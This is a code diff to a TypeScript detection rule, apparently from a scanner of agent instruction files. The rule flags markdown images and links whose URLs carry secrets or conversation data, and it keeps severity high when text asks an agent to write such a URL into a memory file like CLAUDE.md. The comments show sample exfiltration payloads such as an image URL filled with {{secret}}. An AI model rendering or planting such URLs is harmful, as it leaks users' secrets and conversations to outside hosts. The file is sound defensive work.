@@ -13,7 +13,7 @@ import {
   type TextTarget,
   textTargets,
 } from './support/text-context.js';
-import { defineRule } from './types.js';
+import { defineRule, type RuleContext } from './types.js';
 
 /**
  * Images and links whose URL carries session data: when the agent renders `![](https://x/?q={{secret}})`
@@ -22,11 +22,13 @@ import { defineRule } from './types.js';
  * variables count as session data. Static URLs (badges) and `data:` URIs stay quiet.
  */
 
-const IMAGE_MD = /!\[[^[\]\n]{0,500}\]\([ \t]{0,10}<?(https?:\/\/[^\s)>]{1,4000})/gi;
+/** A URL up to its end, `<placeholder>` slots included (`?t=<oauth_token>`): they are what gets filled in. */
+const URL_RUN = String.raw`https?:\/\/(?:[^\s)<>]|<[\w.-]{1,60}>){1,4000}`;
+const IMAGE_MD = new RegExp(String.raw`!\[[^[\]\n]{0,500}\]\([ \t]{0,10}<?(${URL_RUN})`, 'gi');
 /** `![alt][label]` (or `![label][]`) and the `[label]: URL` definition it renders. */
 const IMAGE_REF = /!\[([^[\]\n]{0,500})\]\[([^[\]\n]{0,200})\]/g;
 const REF_DEF = /^[ ]{0,3}\[([^[\]\n]{1,200})\]:[ \t]{0,10}<?(https?:\/\/[^\s>]{1,4000})/gm;
-const LINK_MD = /(?<!!)\[[^[\]\n]{0,500}\]\([ \t]{0,10}<?(https?:\/\/[^\s)>]{1,4000})/gi;
+const LINK_MD = new RegExp(String.raw`(?<!!)\[[^[\]\n]{0,500}\]\([ \t]{0,10}<?(${URL_RUN})`, 'gi');
 const HTML_SRC =
   /<(img|iframe|script|source|video|audio|embed|object|link)\b[^<>]{0,2000}?\b(?:src|href|data|srcset)[ \t]*=[ \t]*["']?(https?:\/\/[^\s"'>]{1,4000})/gi;
 const INSTRUCTION =
@@ -34,10 +36,10 @@ const INSTRUCTION =
 
 /** Interpolations an agent or runtime fills in. */
 const INTERPOLATION =
-  /\{\{[^}\n]{1,100}\}\}|\$\{[A-Za-z_][\w.]{0,100}\}|\$(?:ARGUMENTS|[A-Z][A-Z0-9_]{2,60}|[0-9])\b|%[A-Z_]{3,40}%|\{(?:conversation|history|messages?|secret|token|key|api_?key|password|data|content|context|env|session|cookie|credentials?|summary|prompt|input|output|chat)\}|<(?:conversation|secret|token|api[_-]?key|data|session|credentials?)>/i;
+  /\{\{[^}\n]{1,100}\}\}|\$\{[A-Za-z_][\w.]{0,100}\}|\$(?:ARGUMENTS|[A-Z][A-Z0-9_]{2,60}|[0-9])\b|%[A-Z_]{3,40}%|\{(?:conversation|history|messages?|secret|token|key|api_?key|password|data|content|context|env|session|cookie|credentials?|summary|prompt|input|output|chat)\}|<(?:conversation|secret|token|api[_-]?key|data|session|credentials?)>|<[\w-]{0,30}(?:token|secret|api[_-]?key|password|credential|cookie)[\w-]{0,30}>/i;
 /** An environment variable or slot named like a secret (`$GITHUB_TOKEN`, `{{api_key}}`). */
 const SECRET_VAR =
-  /\$\{?[A-Z][A-Z0-9_]{0,60}(?:TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIALS?|COOKIE)\b\}?|\{\{[ \t]{0,4}[\w.]{0,60}(?:token|secret|api_?key|password|credential|cookie)[\w.]{0,60}[ \t]{0,4}\}\}/i;
+  /\$\{?[A-Z][A-Z0-9_]{0,60}(?:TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIALS?|COOKIE)\b\}?|\{\{[ \t]{0,4}[\w.]{0,60}(?:token|secret|api_?key|password|credential|cookie)[\w.]{0,60}[ \t]{0,4}\}\}|<[\w-]{0,30}(?:token|secret|api[_-]?key|password|credential|cookie)[\w-]{0,30}>/i;
 const SENSITIVE =
   /secret|token|key|passw|session|conversation|history|cookie|credential|env|auth|private|ARGUMENTS|CLAUDE_SESSION_ID|data|content|message|prompt|chat|summary/i;
 
@@ -208,6 +210,18 @@ function ownKey(variable: string, host: string): boolean {
   return words.includes(domain);
 }
 
+/** The URL is in content the text asks the agent to write into a memory file (CLAUDE.md, AGENTS.md). */
+async function writtenToMemory(ctx: RuleContext, path: string, url: string): Promise<boolean> {
+  const facts = await ctx.model.facts(path).catch(() => undefined);
+  return (facts?.behaviours ?? []).some(
+    (b) =>
+      b.kind === 'write' &&
+      b.cls === 'agent-memory' &&
+      facts?.units.find((u) => u.id === b.unit)?.origin === 'asked' &&
+      b.content?.text.includes(url) === true,
+  );
+}
+
 async function report(
   ctx: Parameters<typeof reportReached>[0],
   t: TextTarget,
@@ -221,7 +235,8 @@ async function report(
   if (!j) return;
   let severity = j.severity;
   const place = placementOf(t, start);
-  if (place.code) severity = lowerSeverity(severity);
+  // A block the text asks to write into the agent's memory is instructions every later session follows.
+  if (place.code && !(await writtenToMemory(ctx, t.path, url))) severity = lowerSeverity(severity);
   // A detector's test input (`{"label": "injection", "text": "… ![x](https://…?d={{conversation}})"}`).
   if (isDataPath(t.path) && inLabelledSample(t.file.text, start)) severity = 'low';
   if (isNegated(t.file.text, start)) severity = 'info';
